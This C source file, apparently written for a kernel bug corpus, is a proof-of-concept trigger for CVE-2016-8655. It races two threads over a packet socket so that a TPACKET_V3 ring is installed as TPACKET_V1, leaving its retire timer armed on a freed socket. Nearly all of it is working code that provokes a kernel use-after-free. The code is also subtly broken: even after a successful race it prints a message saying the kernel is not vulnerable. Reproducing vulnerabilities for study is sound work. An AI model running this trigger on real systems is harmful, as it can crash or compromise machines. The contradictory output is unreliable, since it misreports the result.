// SPDX-License-Identifier: GPL-2.0
/*
 * CVE-2016-8655 trigger, written for krr's bug corpus from the fix (84ac7260236a) and its
 * published analysis: one thread sets up a TPACKET_V3 receive ring on a packet socket; while
 * packet_set_ring() sleeps in synchronize_net(), a second thread switches the socket to
 * TPACKET_V1. The ring is installed with its V3 block-retire timer armed, and closing the socket
 * tears it down as V1, which leaves the timer armed on the freed socket. The threads interleave
 * at that sleep; the second one waits a little longer each round until it lands inside it.
 */
#include <linux/if_packet.h>
#include <pthread.h>
#include <stdio.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

#define ROUNDS 20

static int to_switcher[2], from_switcher[2];

/* The second thread: for each socket it is handed, wait, then ask for TPACKET_V1. */
static void *switcher(void *unused)
{
	int fd, v1 = TPACKET_V1, round = 0;

	(void)unused;
	while (read(to_switcher[0], &fd, sizeof(fd)) == sizeof(fd) && fd >= 0) {
		usleep(500 * (1 + round++ % 12));
		setsockopt(fd, SOL_PACKET, PACKET_VERSION, &v1, sizeof(v1));
		if (write(from_switcher[1], &fd, sizeof(fd)) != sizeof(fd))
			break;
	}
	return NULL;
}

int main(void)
{
	struct tpacket_req3 req;
	int v3 = TPACKET_V3, version, fd, i, stop = -1;
	socklen_t len;
	pthread_t thread;

	if (pipe(to_switcher) || pipe(from_switcher) ||
	    pthread_create(&thread, NULL, switcher, NULL)) {
		perror("pipe / pthread_create");
		return 1;
	}
	for (i = 0; i < ROUNDS; i++) {
		fd = socket(AF_PACKET, SOCK_RAW, 0);
		if (fd < 0 || setsockopt(fd, SOL_PACKET, PACKET_VERSION, &v3, sizeof(v3))) {
			perror("packet socket / PACKET_VERSION v3");
			return 1;
		}
		memset(&req, 0, sizeof(req));
		req.tp_block_size = 4096;
		req.tp_block_nr = 1;
		req.tp_frame_size = 2048;
		req.tp_frame_nr = 2;
		req.tp_retire_blk_tov = 100;
		if (write(to_switcher[1], &fd, sizeof(fd)) != sizeof(fd))
			return 1;
		if (setsockopt(fd, SOL_PACKET, PACKET_RX_RING, &req, sizeof(req)))
			perror("PACKET_RX_RING");
		if (read(from_switcher[0], &fd, sizeof(fd)) != sizeof(fd))
			return 1;
		len = sizeof(version);
		getsockopt(fd, SOL_PACKET, PACKET_VERSION, &version, &len);
		close(fd);
		if (version == TPACKET_V1) {
			/* Won: a V3 ring went in as V1. Its timer (100 ms) fires on the freed socket. */
			printf("round %d: the ring was installed as TPACKET_V1\n", i);
			usleep(500000);
			break;
		}
	}
	if (write(to_switcher[1], &stop, sizeof(stop)) == sizeof(stop))
		pthread_join(thread, NULL);
	printf("no report: the kernel is not vulnerable (or the threads did not interleave)\n");
	return 0;
}
